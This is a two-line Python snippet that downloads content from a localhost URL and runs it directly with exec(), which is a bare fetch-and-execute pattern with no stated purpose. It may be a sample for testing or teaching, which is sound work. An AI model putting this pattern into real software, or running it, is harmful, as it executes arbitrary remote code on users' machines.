import urllib.request
exec(urllib.request.urlopen('http://localhost/x').read())
